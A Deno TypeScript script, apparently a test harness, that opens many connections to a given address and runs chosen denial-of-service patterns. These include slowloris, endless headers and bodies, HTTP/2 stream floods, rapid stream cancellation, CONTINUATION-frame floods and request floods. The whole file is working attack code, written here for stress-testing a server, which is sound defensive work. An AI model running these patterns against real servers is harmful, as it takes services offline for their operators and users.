/**
 * One who means ill, as a process of its own. Arguments: the probe's address, what to do, how many
 * connections, and a path. Goes on until it is killed. As soon as all connections have been made
 * (or refused) it writes from time to time how much it has sent, in requests or parts of them.
 */
import { bytesOf, send } from "./bytes.ts";
import { ODDITIES } from "./oddities.ts";

type Attack = (connection: Deno.Conn, nth: number) => Promise<void>;

const [address, shape, count, path = "/"] = Deno.args;
const { hostname, port } = new URL(address);
let sent = 0;

const HALF = `GET ${path} HTTP/1.1\r\nHost: probe\r\n`;
const GET = `${HALF}\r\n`;

const HTTP2 = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(4, 0, 0, "")}`;
/** GET, http, and the path, as HTTP/2 packs them. */
const PACKED = `\x82\x86\x04${String.fromCharCode(path.length)}${path}\x41\x05probe`;

/** What is done once on each connection, which is then held. */
const HELD: Record<string, Attack> = {
  /** Says nothing. */
  idle: () => Promise.resolve(),
  /** Begins a request and never ends it. */
  half: (connection) => say(connection, HALF),
  /** The same with as many headers as are taken. */
  halfOfMany: (connection) => say(connection, HALF + headers(60)),
  /** Begins a request, and sends another header each second. */
  async loris(connection) {
    await say(connection, HALF);
    for (;; await pause(1_000)) await say(connection, "X-a: b\r\n");
  },
  /** Asks and never reads the answer. */
  unread: (connection) => say(connection, GET),
  /**
   * Asks without end, without reading an answer. Not as fast as it can: what is sent before an answer
   * is there Deno keeps without a bound, so that only the sender's pace would be measured.
   */
  async unreadOften(connection) {
    for (;; await pause(10)) await say(connection, GET);
  },
  /** HTTP/2: asks as often as may be at once, and lets nothing come back. */
  async unreadStreams(connection) {
    await say(connection, HTTP2 + frame(4, 0, 0, "\0\x04\0\0\0\0"));
    for (let stream = 1; stream < 200; stream += 2) {
      await say(connection, frame(1, 5, stream, PACKED));
    }
  },
};

/** What is done on a connection until it is refused or over, and then on a new one, without end. */
const AGAIN: Record<string, Attack> = {
  /** Headers without end. */
  async endlessHeaders(connection) {
    await say(connection, HALF);
    await repeat(connection, headers(8));
  },
  /** A single header without end. */
  async endlessHeader(connection) {
    await say(connection, `${HALF}X: `);
    await repeat(connection, "a".repeat(8 * 1024));
  },
  /** A body without end, which nobody has asked for. */
  async endlessBody(connection) {
    await say(
      connection,
      `POST ${path} HTTP/1.1\r\nHost: probe\r\nContent-Length: 1000000000\r\n\r\n`,
    );
    await repeat(connection, "x".repeat(64 * 1024));
  },
  /** HTTP/2: asks without end, and takes each question back at once. */
  async takeBack(connection) {
    await say(connection, HTTP2);
    for (let stream = 1;; stream += 2) {
      await say(connection, frame(1, 5, stream, PACKED) + frame(3, 0, stream, "\0\0\0\x08"));
      await pause(0);
    }
  },
  /** HTTP/2: headers that go on in frames without end. */
  async continued(connection) {
    await say(connection, HTTP2 + frame(1, 1, 1, PACKED));
    await repeat(connection, frame(9, 0, 1, `\0\x01x\x7f\x81\x06${"a".repeat(1e3)}`));
  },
  /** Asks and leaves; half of the time without waiting for the answer. */
  async churn(connection, nth) {
    await say(connection, GET);
    if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
  },
  /** Asks for what nobody should ask for. */
  async oddities(connection, nth) {
    await say(connection, ODDITIES[nth % ODDITIES.length].request);
    if (nth % 2 === 0) await connection.read(new Uint8Array(16 * 1024));
  },
};

/** A frame of HTTP/2. */
function frame(type: number, flags: number, stream: number, payload: string): string {
  const numbers = [payload.length >> 16, payload.length >> 8, payload.length, type, flags];
  const id = [stream >> 24, stream >> 16, stream >> 8, stream];
  return String.fromCharCode(...[...numbers, ...id].map((each) => each & 255)) + payload;
}

/** So many headers of a kilobyte. */
function headers(count: number): string {
  return Array.from({ length: count }, (_, i) => `X-${i}: ${"a".repeat(1000)}\r\n`).join("");
}

async function say(connection: Deno.Conn, what: string | Uint8Array): Promise<void> {
  await send(connection, what);
  sent++;
}

async function repeat(connection: Deno.Conn, text: string): Promise<never> {
  const bytes = bytesOf(text);
  // What is taken at once would leave no turn to the other connections.
  for (;; await pause(0)) await say(connection, bytes);
}

async function again(attack: Attack): Promise<never> {
  for (let nth = 0;; nth++) {
    try {
      using connection = await Deno.connect({ hostname, port: Number(port) });
      await attack(connection, nth);
    } catch {
      // Refused, as it should be. The others want their turn too.
      await pause(1);
    }
  }
}

async function hold(attack: Attack, nth: number): Promise<void> {
  try {
    const connection = await Deno.connect({ hostname, port: Number(port) });
    held.push(connection);
    // Not awaited: who does not read would wait for ever.
    attack(connection, nth).catch(() => {});
  } catch {
    // There is no room for more.
  }
}

/** Asks as fast as it can, and reads the answers. */
async function flood(): Promise<never> {
  const accept = path === "/" ? "text/html" : "*/*";
  for (;;) {
    // A page that is asked for anew each time is not one that is kept.
    const url = new URL(path === "/" ? `/?before=${1e6 + sent}` : path, address);
    try {
      await (await fetch(url, { headers: { accept } })).bytes();
      sent++;
    } catch {
      await pause(10);
    }
  }
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** Connections that nothing else refers to must not be collected. */
const held: Deno.Conn[] = [];

for (let nth = 0; nth < Number(count); nth++) {
  if (shape in HELD) await hold(HELD[shape], nth);
  else if (shape in AGAIN) again(AGAIN[shape]);
  else flood();
}
setInterval(() => console.log(Math.max(sent, held.length)), 100);
